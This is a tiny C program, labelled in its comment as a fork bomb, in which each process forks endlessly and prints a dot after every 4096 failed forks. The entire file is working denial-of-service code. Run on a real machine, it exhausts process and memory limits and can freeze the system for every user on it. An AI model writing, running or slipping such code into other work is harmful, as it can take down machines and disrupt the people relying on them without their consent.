/* A fork bomb: each process forks as often as it can, and says by a dot that it could not, some thousand times. */
#include <unistd.h>

int main(void)
{
    for (unsigned failures = 0;;)
        if (fork() < 0 && ++failures % 4096 == 1 && write(1, ".", 1) != 1)
            return 1;
}
